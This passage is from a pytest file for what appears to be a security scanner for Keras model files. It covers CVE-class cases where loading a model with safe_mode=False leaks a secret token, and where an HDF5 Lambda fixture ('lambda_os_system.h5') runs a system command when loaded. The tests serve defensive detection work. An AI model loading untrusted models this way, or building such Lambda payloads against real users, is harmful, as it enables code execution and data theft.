    assert worst(scan(poc), "KER404") is Severity.HIGH
    code = (f"import keras; m = keras.saving.load_model({str(poc)!r}, safe_mode=False)\n"
            "print([w for l in m.layers if hasattr(l, 'get_vocabulary') for w in l.get_vocabulary()])")
    res = _run_keras(code)
    assert "TOP-SECRET-TOKEN" in res.stdout, res.stderr[-2000:]


@pytest.mark.live
def test_live_tf_keras_h5_lambda_runs() -> None:
    """CVE-2025-9905 class: tf.keras loads an HDF5 Lambda's bytecode (set MLVET_TF_KERAS_PATH)."""
    tf_path = os.environ.get("MLVET_TF_KERAS_PATH")
    if not tf_path:
        pytest.skip("MLVET_TF_KERAS_PATH (an environment with tensorflow + tf_keras) not set")
    marker = Path(mk.MARKER)
    marker.unlink(missing_ok=True)
    path = FIXTURES / "malicious/lambda_os_system.h5"
    code = f"import numpy, tf_keras; m = tf_keras.models.load_model({str(path)!r}); m(numpy.ones((1, 4)))"
    res = _run_keras(code, {"PYTHONPATH": tf_path})
    assert marker.exists(), res.stderr[-2000:]
    marker.unlink()


def test_module_is_typed_entry_points() -> None:
    """The public helpers other format modules may reuse keep their shape."""
    doc, shadowed = keras_fmt.parse_config_json(b'{"a": 1, "a": 2}', "x")
    assert doc == {"a": 2} and shadowed == [("a", 1)]
    assert keras_fmt.find_hdf5_superblock(io.BytesIO(b"\0" * 512 + keras_fmt.HDF5_MAGIC), 520) == 512
